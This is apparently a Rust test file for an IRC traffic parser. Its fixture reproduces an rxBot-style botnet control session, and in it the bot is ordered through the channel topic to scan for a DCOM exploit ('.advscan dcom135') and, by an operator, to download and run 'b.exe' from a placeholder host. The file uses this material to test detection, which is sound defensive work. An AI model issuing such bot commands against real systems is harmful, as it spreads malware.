use super::*;
use crate::StreamDriver;

use Direction::{ToClient as TC, ToServer as TS};

fn run_split(script: &[(Direction, &[u8])], step: usize) -> (Vec<IrcEvent>, Session) {
    let mut d = StreamDriver::new(IrcParser::new(IrcConfig::default()), 1 << 16);
    let mut ev = Vec::new();
    for &(dir, bytes) in script {
        for piece in bytes.chunks(step.max(1)) {
            d.feed(dir, piece, &mut ev);
        }
    }
    d.end(TS, &mut ev);
    d.end(TC, &mut ev);
    (ev, d.parser().session().clone())
}

fn run(script: &[(Direction, &[u8])]) -> (Vec<IrcEvent>, Session) {
    run_split(script, usize::MAX)
}

/// An rxBot-style session, after the one in Suricata-verify's `irc` test
/// (tranalyzer's capture): keyed join, a command in the topic, the bot's
/// report, a command from an operator.
const BOT: &[(Direction, &[u8])] = &[
    (
        TS,
        b"PASS l0m3za\r\nNICK damn-0262937047\r\nUSER ghmfeirsfnw 0 0 :damn-0262937047\r\n",
    ),
    (
        TC,
        b":hunt3d.devilz.net NOTICE AUTH :*** Looking up your hostname...\r\n\
:hunt3d.devilz.net 001 damn-0262937047 :Welcome to the devilz IRC Network damn-0262937047!x@h\r\n\
:hunt3d.devilz.net 433 * damn-0262937047 :Nickname is already in use.\r\n",
    ),
    (TS, b"JOIN #sl0w3r l03dx\r\n"),
    (
        TC,
        b":damn-0262937047!ghmfeirsfn@h JOIN :#sl0w3r\r\n\
:hunt3d.devilz.net 332 damn-0262937047 #sl0w3r :.advscan dcom135 200 3 0 -r -s\r\n\
:hunt3d.devilz.net 353 damn-0262937047 @ #sl0w3r :damn-0262937047 @AL7uB @Under0 +v\r\n\
:AL7uB!x@y PRIVMSG #sl0w3r :.download http://198.51.100.9/b.exe c:\\b.exe 1\r\n\
:ChanServ!s@services MODE #sl0w3r +o-o damn-0262937047 Under0\r\n",
    ),
    (
        TS,
        b"PRIVMSG #sl0w3r :[DOWNLOAD]: Downloading URL: http://198.51.100.9/b.exe\r\n\
PRIVMSG AL7uB :\x01DCC SEND \"my file.exe\" 3232235777 5000 1024\x01\r\nQUIT :bye\r\n",
    ),
];

#[test]
fn a_bot_session() {
    let (ev, s) = run(BOT);
    assert_eq!(s.nick.as_deref(), Some("damn-0262937047"));
    assert_eq!(s.user.as_deref(), Some("ghmfeirsfnw"));
    assert_eq!(s.realname.as_deref(), Some("damn-0262937047"));
    assert!(s.pass && s.welcome);
    assert_eq!(s.server.as_deref(), Some("hunt3d.devilz.net"));
    assert_eq!(s.nick_in_use, 1);
    let c = s.channel("#SL0W3R").expect("channel");
    assert!(c.key && c.joined);
    assert_eq!(c.ops, ["AL7uB", "damn-0262937047"], "{c:?}");
    assert_eq!(s.counts.privmsg_sent, 2);
    assert_eq!(s.counts.privmsg_received, 1);
    assert_eq!(s.counts.dcc, 1);
    assert!(ev.contains(&IrcEvent::Join {
        channel: "#sl0w3r".into(),
        key: true
    }));
    assert!(ev.contains(&IrcEvent::Topic {
        channel: "#sl0w3r".into(),
        text: ".advscan dcom135 200 3 0 -r -s".into(),
        setter: None
    }));
    let chats: Vec<&Chat> = ev
        .iter()
        .filter_map(|e| match e {
            IrcEvent::Chat(c) if !c.notice => Some(&**c),
            _ => None,
        })
        .collect();
    assert_eq!(chats.len(), 3);
    assert_eq!(chats[0].source.as_deref(), Some("AL7uB"));
    assert!(chats[0].from_op, "AL7uB is @ in the NAMES reply");
    assert_eq!(
        chats[0].text,
        ".download http://198.51.100.9/b.exe c:\\b.exe 1"
    );
    assert_eq!(chats[1].dir, TS);
    assert_eq!(chats[1].source.as_deref(), Some("damn-0262937047"));
    let dcc = chats[2].dcc.as_ref().expect("dcc");
    assert_eq!(
        (dcc.kind.as_str(), dcc.argument.as_str()),
        ("SEND", "my file.exe")
    );
    assert_eq!(dcc.address, Some("192.168.1.1".parse().unwrap()));
    assert_eq!(
        (dcc.port, dcc.size, dcc.malformed),
        (Some(5000), Some(1024), false)
    );
    assert!(ev.contains(&IrcEvent::Quit {
        message: Some("bye".into())
    }));
}

#[test]
fn every_split_gives_the_same_events() {
    let whole = run(BOT);
    for step in 1..48 {
        assert_eq!(run_split(BOT, step), whole, "step {step}");
    }
}

#[test]
fn a_cut_at_every_point_gives_the_same_events() {
    // Each direction's bytes in two pieces, cut at every offset in turn.
    let whole = run(BOT);
    for (i, &(_, bytes)) in BOT.iter().enumerate() {
        for at in 0..=bytes.len() {
            let mut script: Vec<(Direction, &[u8])> = BOT[..i].to_vec();
            script.push((BOT[i].0, &bytes[..at]));
            script.push((BOT[i].0, &bytes[at..]));
            script.extend_from_slice(&BOT[i + 1..]);
            assert_eq!(run(&script), whole, "piece {i} cut at {at}");
        }
    }
}

#[test]
fn messages_as_servers_write_them() {
    let cfg = IrcConfig::default();
    let m = parse_message(
        b"@time=2024-01-01T00:00:00Z :nick!u@h PRIVMSG  #c   :hello  there ",
        &cfg,
    )
    .unwrap();
    assert_eq!(m.prefix.as_deref(), Some("nick!u@h"));
    assert_eq!(m.command, "PRIVMSG");
    assert_eq!(m.params, ["#c", "hello  there "]);
    let m = parse_message(b"ping irc.example", &cfg).unwrap();
    assert_eq!((m.command.as_str(), m.params.len()), ("PING", 1));
    let many = format!(
        "CMD {}",
        (0..20).map(|i| i.to_string()).collect::<Vec<_>>().join(" ")
    );
    let m = parse_message(many.as_bytes(), &cfg).unwrap();
    assert_eq!(m.params.len(), 15);
    assert_eq!(m.params[14], "14 15 16 17 18 19");
    for bad in [
        &b""[..],
        b":prefix-only",
        b"1234 x",
        b"12 x",
        b"PRIV-MSG x",
        b"@t",
    ] {
        assert_eq!(parse_message(bad, &cfg), None, "{:?}", bad);
    }
}

#[test]
fn dcc_offers() {
    let d = parse_dcc("\u{1}DCC CHAT chat 2130706433 4000\u{1}").unwrap();
    assert_eq!(d.address, Some("127.0.0.1".parse().unwrap()));
    assert!(!d.malformed);
    let d = parse_dcc("\u{1}DCC SEND f.txt ::1 4000 12\u{1}").unwrap();
    assert_eq!(d.address, Some("::1".parse().unwrap()));
    let d = parse_dcc("\u{1}DCC SEND f.txt 1.2.3.x 4000\u{1}").unwrap();
    assert!(d.malformed);
    let d = parse_dcc("\u{1}DCC SEND f.txt 16909060 99999\u{1}").unwrap();
    assert!(d.malformed && d.port.is_none());
    assert_eq!(parse_dcc("\u{1}VERSION\u{1}"), None);
    assert_eq!(parse_dcc("DCC SEND x 1 2"), None, "not CTCP");
}

#[test]
fn names_without_parameters_are_an_anomaly() {
    let (ev, _) = run(&[
        (TS, b"NICK a\r\nJOIN #x\r\n"),
        (TC, b":s 353 a\r\n:s 353 a #x :@op\r\n"),
    ]);
    assert!(ev.contains(&IrcEvent::Anomaly {
        kind: IrcAnomaly::InvalidNamesLine
    }));
}

#[test]
fn bounds_hold() {
    let cfg = IrcConfig {
        max_channels: 3,
        max_ops: 2,
        ..IrcConfig::default()
    };
    let mut d = StreamDriver::new(IrcParser::new(cfg), 1 << 16);
    let mut ev = Vec::new();
    d.feed(TS, b"NICK a\r\nJOIN #1,#2,#3,#4,#5 k\r\n", &mut ev);
    d.feed(TC, b":s 353 a = #1 :@a @b @c @d\r\n", &mut ev);
    let s = d.parser().session();
    assert_eq!(s.channels.len(), 3);
    assert_eq!(s.channels_dropped, 2);
    assert!(s.channels[0].key && !s.channels[1].key);
    assert_eq!(s.channels[0].ops.len(), 2);
    assert_eq!(
        ev.iter()
            .filter(|e| matches!(e, IrcEvent::Join { .. }))
            .count(),
        5,
        "every join is still reported"
    );
    let mut long = b"PRIVMSG #1 :".to_vec();
    long.extend(std::iter::repeat_n(b'x', 20_000));
    long.extend_from_slice(b"\r\nNICK b\r\n");
    let mut ev = Vec::new();
    for piece in long.chunks(1000) {
        d.feed(TS, piece, &mut ev);
    }
    assert!(ev.contains(&IrcEvent::Anomaly {
        kind: IrcAnomaly::LineTooLong
    }));
    assert!(ev.contains(&IrcEvent::Nick { nick: "b".into() }));
    let text_len = ev.iter().find_map(|e| match e {
        IrcEvent::Chat(c) => Some(c.text.len()),
        _ => None,
    });
    assert_eq!(text_len, Some(512));
}

#[test]
fn a_gap_loses_one_line() {
    let mut d = StreamDriver::new(IrcParser::new(IrcConfig::default()), 1 << 16);
    let mut ev = Vec::new();
    d.feed(TS, b"NICK a\r\nJOIN #l", &mut ev);
    d.gap(TS, 10, &mut ev);
    d.feed(TS, b"ost\r\nJOIN #found\r\n", &mut ev);
    assert!(ev.contains(&IrcEvent::Anomaly {
        kind: IrcAnomaly::Gap
    }));
    assert!(
        !ev.iter()
            .any(|e| matches!(e, IrcEvent::Join { channel, .. } if channel.contains("ost")))
    );
    assert!(ev.contains(&IrcEvent::Join {
        channel: "#found".into(),
        key: false
    }));
}

#[test]
fn starttls_ends_parsing() {
    let (ev, _) = run(&[
        (TS, b"STARTTLS\r\n"),
        (
            TC,
            b":irc.example 670  :STARTTLS successful, go ahead with TLS handshake\r\n",
        ),
        (
            TS,
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\x00garbage\n",
        ),
        (TC, b"\x16\x03\x03\x00\x5d\x02\r\n"),
    ]);
    assert_eq!(ev, [IrcEvent::StartTls]);
}

#[test]
fn probes() {
    let m = |d, b: &[u8]| probe(d, b);
    assert_eq!(m(TS, b"NICK tim2\r\n"), Probe::Match);
    assert_eq!(m(TS, b"NI"), Probe::NeedMore);
    assert_eq!(m(TS, b"NICK tim"), Probe::NeedMore);
    assert_eq!(m(TS, b"USER brotest 0 * :brotest\r\n"), Probe::Match);
    assert_eq!(m(TS, b"USER anonymous\r\n"), Probe::NoMatch, "FTP");
    assert_eq!(m(TS, b"PASS x\r\n"), Probe::NeedMore);
    assert_eq!(m(TS, b"PASS x\r\nNICK y\r\n"), Probe::Match);
    assert_eq!(m(TS, b"PASS x\r\nLIST\r\n"), Probe::NoMatch);
    assert_eq!(m(TS, b"CAP LS 302\r\n"), Probe::Match);
    assert_eq!(m(TS, b"GET / HTTP/1.1\r\n"), Probe::NoMatch);
    assert_eq!(m(TS, b"EHLO x\r\n"), Probe::NoMatch);
    assert_eq!(m(TS, b"\x05\x01\x00"), Probe::NoMatch);
    assert_eq!(m(TS, b"NICK !!!!\r\n"), Probe::NoMatch);
    assert_eq!(
        m(
            TC,
            b":leguin.freenode.net NOTICE * :*** Looking up your hostname...\r\n"
        ),
        Probe::Match
    );
    assert_eq!(m(TC, b"NOTICE AUTH :*** Hello\r\n"), Probe::Match);
    assert_eq!(m(TC, b":irc.example 020 * :Please wait\r\n"), Probe::Match);
    assert_eq!(m(TC, b"PING :12345\r\n"), Probe::Match);
    assert_eq!(m(TC, b":irc.exa"), Probe::NeedMore);
    assert_eq!(m(TC, b"220 mail ESMTP\r\n"), Probe::NoMatch);
    assert_eq!(m(TC, b"HTTP/1.1 200 OK\r\n"), Probe::NoMatch);
    assert_eq!(m(TC, b"+OK POP3\r\n"), Probe::NoMatch);
    assert_eq!(m(TC, b"220 001 x\r\n"), Probe::NoMatch);
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn any_cut_points_give_the_same_result(cuts in proptest::collection::vec(0usize..600, 0..12)) {
            let whole = run(BOT);
            let mut d = StreamDriver::new(IrcParser::new(IrcConfig::default()), 1 << 16);
            let mut ev = Vec::new();
            for &(dir, bytes) in BOT {
                let mut points: Vec<usize> = cuts.iter().map(|c| c % (bytes.len() + 1)).collect();
                points.sort_unstable();
                let mut at = 0;
                for p in points.into_iter().chain([bytes.len()]) {
                    d.feed(dir, &bytes[at..p.max(at)], &mut ev);
                    at = p.max(at);
                }
            }
            d.end(TS, &mut ev);
            d.end(TC, &mut ev);
            prop_assert_eq!((ev, d.parser().session().clone()), whole);
        }

        #[test]
        fn arbitrary_bytes_never_panic(ts in proptest::collection::vec(any::<u8>(), 0..600),
                                       tc in proptest::collection::vec(any::<u8>(), 0..600),
                                       step in 1usize..64) {
            let script = [(TS, ts.as_slice()), (TC, tc.as_slice())];
            let _ = run_split(&script, step);
            let _ = probe(TS, &ts);
            let _ = probe(TC, &tc);
        }

        #[test]
        fn irc_like_garbage_never_panics(s in "((@[a-z=;]{0,8} )?(:[a-zA-Z!@.]{0,12} )?(NICK|JOIN|MODE|PRIVMSG|353|332|001|KICK|TOPIC)( [#@+a-z,=*]{0,10}){0,5}( :[\\x01 -~]{0,30})?\r\n){0,8}") {
            let _ = run(&[(TS, s.as_bytes()), (TC, s.as_bytes())]);
        }
    }
}

proptest::proptest! {
    /// Detection's shortcut never turns down a line whose parsed command
    /// is an opener: it reads the prefix and command as the parser does.
    #[test]
    fn the_command_shortcut_agrees_with_the_parser(
        lead in "[ \t]{0,2}",
        head in "(@a=b |:srv |)",
        cmd in "(NICK|nick|User|CAP|PASS|NOTICE|ping|ERROR|001|GET|HTTP/1.1|220|EHLO|NICKS|N1CK)",
        sep in "( |\t|:|)",
        rest in "[a-z0-9 :]{0,12}",
    ) {
        let line = format!("{lead}{head}{cmd}{sep}{rest}");
        let b = line.as_bytes();
        let parsed = super::message::parse_message(b, &super::IrcConfig::default());
        if let Some(m) = parsed {
            let Some((prefix, c)) = super::message::prefix_and_command(b) else {
                return Err(proptest::test_runner::TestCaseError::fail(format!("{line:?}: no command")));
            };
            proptest::prop_assert!(m.command.as_bytes().eq_ignore_ascii_case(c), "{line:?}: {:?} vs {:?}", m.command, String::from_utf8_lossy(c));
            proptest::prop_assert_eq!(m.prefix.is_some(), prefix.is_some(), "{:?}", line);
        }
    }
}
